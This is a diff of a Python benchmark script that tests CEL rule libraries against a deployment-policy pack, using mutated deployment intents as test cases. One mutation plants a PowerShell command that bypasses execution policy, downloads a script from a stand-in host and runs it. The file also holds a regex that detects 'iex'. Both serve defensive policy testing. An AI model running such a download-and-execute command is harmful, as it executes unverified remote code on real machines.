@@ -35,8 +35,8 @@ from collections import Counter
 from collections.abc import Callable
 from dataclasses import dataclass, field
 from datetime import datetime
-from pathlib import Path
 from importlib import metadata
+from pathlib import Path
 from typing import Any
 
 ROOT = Path(__file__).resolve().parents[1]
@@ -176,7 +176,7 @@ def common_expression_language() -> list[Backend]:
     def run(program: Any, ctx: Any) -> Verdict:
         try:
             return verdict(program.execute(ctx))
-        except BaseException as error:  # noqa: BLE001 - pyo3 panics are BaseExceptions
+        except BaseException as error:  # pyo3 panics are BaseExceptions
             if isinstance(error, KeyboardInterrupt | SystemExit):
                 raise
             return failure(error)
@@ -274,42 +274,74 @@ class Case:
     reference: dict[str, Verdict] = field(default_factory=dict)
 
 
+def _classify(m: dict[str, Any], i: int) -> None:
+    value = "Confidential" if i % 20 == 0 else "RESTRICTED"  # lowerAscii
+    m["metadata"]["labels"]["data-classification"] = value
+
+
+def _remote_code(m: dict[str, Any], _: int) -> None:  # matches, (?i), \b
+    m["package"]["installCommand"] = 'powershell -ep bypass -c "iwr https://x.test/a.ps1 | iex"'
+
+
+def _foreign_host(m: dict[str, Any], _: int) -> None:
+    m["package"]["uninstallCommand"] = "msiexec /x {0000-1111} /qn"
+    m["package"]["url"] = "https://downloads.example.net/app/installer"
+
+
+def _no_rollback(m: dict[str, Any], i: int) -> None:
+    if i % 4:
+        m["rollback"] = {"strategy": "none"}
+    else:
+        del m["rollback"]
+
+
+def _no_evidence(m: dict[str, Any], _: int) -> None:
+    del m["evidence"]["sbom"], m["evidence"]["testReport"]
+
+
+def _placeholder_hash(m: dict[str, Any], _: int) -> None:
+    m["package"]["sha256"] = "0" * 64
+
+
+def _uninstall_everywhere(m: dict[str, Any], _: int) -> None:
+    m["rings"][-1]["assignment"] = "uninstall"
+    m["rings"][1]["target"] = "All"
+
+
+def _vulns_unreported(m: dict[str, Any], _: int) -> None:
+    del m["evidence"]["vulnerabilities"]["critical"]
+    m["evidence"]["vulnerabilities"]["high"] = 0
+
+
+def _no_signer_no_soak(m: dict[str, Any], _: int) -> None:
+    m["package"]["signer"] = {}
+    del m["rings"][0]["gate"]["soak"]
+
+
+RARE = (
+    _classify,
+    _classify,
+    _remote_code,
+    _foreign_host,
+    _no_rollback,
+    _no_evidence,
+    _placeholder_hash,
+    _uninstall_everywhere,
+    _vulns_unreported,
+    _no_signer_no_soak,
+)
+
+
 def mutate(intent: dict[str, Any], i: int) -> dict[str, Any]:
     """Make rules fire: the four common mutations on odd intents, one rarer one on each."""
     m = copy.deepcopy(intent)
-    package, rings = m["package"], m["rings"]
     if i % 2:
-        package["signed"] = False
-        package["requiresAdmin"] = True
+        m["package"]["signed"] = False
+        m["package"]["requiresAdmin"] = True
         m["evidence"]["vulnerabilities"]["high"] = 3
-        rings[-1]["devices"] = 9000
-    rare = i % 10
-    if rare in {0, 1}:
-        value = "Confidential" if rare == 0 else "RESTRICTED"
-        m["metadata"]["labels"]["data-classification"] = value
-    elif rare == 2:
-        package["installCommand"] = 'powershell -ep bypass -c "iwr https://x.test/a.ps1 | iex"'
-    elif rare == 3:
-        package["uninstallCommand"] = "msiexec /x {0000-1111} /qn"
-        package["url"] = "https://downloads.example.net/app/installer"
-    elif rare == 4:
-        m["rollback"] = {"strategy": "none"} if i % 4 else None
-        if m["rollback"] is None:
-            del m["rollback"]
-    elif rare == 5:
-        del m["evidence"]["sbom"], m["evidence"]["testReport"]
-    elif rare == 6:
-        package["sha256"] = "0" * 64
-    elif rare == 7:
-        rings[-1]["assignment"] = "uninstall"
-        rings[1]["target"] = "All"
-    elif rare == 8:
-        del m["evidence"]["vulnerabilities"]["critical"]
-        m["evidence"]["vulnerabilities"]["high"] = 0
-    else:
-        package["signer"] = {}
-        del rings[0]["gate"]["soak"]
-    if i % 7 == 0:
+        m["rings"][-1]["devices"] = 9000
+    RARE[i % len(RARE)](m, i)
+    if i % 7 == 0:  # with the emergency label: an empty reason (trim) or a real one
         m["change"]["emergencyReason"] = "   " if i % 14 == 0 else "zero-day in the wild"
     return m
 
@@ -553,11 +585,13 @@ FEATURES: list[tuple[str, str, str]] = [
     ("matches (RE2)", "intent.package.sha256.matches('^[0-9a-f]{64}$')", "true"),
     ("matches (?i) and \\b", "'iwr x | IEX'.matches(r'(?i)\\biex\\b')", "true"),
     ("lowerAscii", "'ConFidential'.lowerAscii() == 'confidential'", "true"),
-    ("upperAscii, trim", "'ab12'.upperAscii() == 'AB12' && '  x '.trim() == 'x'", "true"),
-    ("join (placeholders)", "['a', 'b'].join(', ') == 'a, b'", "true"),
+    ("upperAscii", "'ab12'.upperAscii() == 'AB12'", "true"),
+    ("trim", "'  x '.trim() == 'x'", "true"),
+    ("join (used in messages)", "['a', 'b'].join(', ') == 'a, b'", "true"),
+    ("size(string) counts code points", "size('héllo') == 5", "true"),
     (
-        "size: code points, list, map",
-        "size('héllo') == 5 && size(intent.metadata.labels) == 2",
+        "size(list), size(map)",
+        "size(intent.rings) >= 2 && size(intent.metadata.labels) == 2",
         "true",
     ),
     ("timestamp() < now", "timestamp(intent.change.window.start) < now", "true"),
@@ -568,8 +602,10 @@ FEATURES: list[tuple[str, str, str]] = [
     ),
     (
         "timestamp + duration ==",
-        "timestamp(intent.change.window.start) + duration('10h') == "
-        "timestamp(intent.change.window.end)",
+        (
+            "timestamp(intent.change.window.start) + duration('10h') == "
+            "timestamp(intent.change.window.end)"
+        ),
         "true",
     ),
     ("offset timestamp == now", "timestamp('2027-02-17T10:00:00+01:00') == now", "true"),
@@ -655,7 +691,7 @@ def print_details(backend: Backend, compiled: Compiled, agreement: dict[str, Agr
             got = reason.split(" (reference:", 1)[0].split(", reference:", 1)[0]
             merged.setdefault((rule_id, got), Counter())[f"{corpus} ref={ref_kind}"] += count
     for (rule_id, got), where in sorted(merged.items()):
-        counts = ", ".join(f"{k} ×{n}" for k, n in sorted(where.items()))
+        counts = ", ".join(f"{k} x{n}" for k, n in sorted(where.items()))
         print(f"- `{rule_id}`: {got} — {counts}")
     if not merged and not failures:
         print("- no disagreement")
@@ -671,7 +707,9 @@ def main() -> None:
     rules = [(rule.id, rule.program.source) for rule in PACK.rules]
     backends, missing = load_backends()
     if not backends or backends[0].name != REFERENCE:
-        print(f"{REFERENCE} (the reference) is not installed: .venv/bin/pip install cel-expr-python")
+        print(
+            f"{REFERENCE} (the reference) is not installed: .venv/bin/pip install cel-expr-python"
+        )
         sys.exit(1)
     print(f"# CEL libraries on EUCORA's default pack ({len(rules)} rules)\n")
     print(f"Python {sys.version.split()[0]}; ", end="")
@@ -727,7 +765,7 @@ def main() -> None:
         agreement = {
             name: compare(backend, done, group, refs[name]) for name, group in cases.items()
         }
-        timing_cells = ["–"] * 5
+        timing_cells = ["-"] * 5
         timing = None
         if done.programs:
             timing = time_backend(backend, done, cases["plain"][:n], args.repeat)
@@ -735,7 +773,11 @@ def main() -> None:
             timing_cells = [
                 f"{timing.per_intent_us:,.0f}",
                 f"{timing.eval_only_us:,.0f}",
-                f"{timing.per_intent_us - timing.eval_only_us:,.0f}",
+                (
+                    f"{timing.per_intent_us - timing.eval_only_us:,.0f}"
+                    if timing.per_intent_us > timing.eval_only_us
+                    else "~0 (noise)"
+                ),
                 f"{fired.per_intent_us:,.0f}",
                 f"{n}" + (" (scaled)" if n < args.intents else ""),
             ]
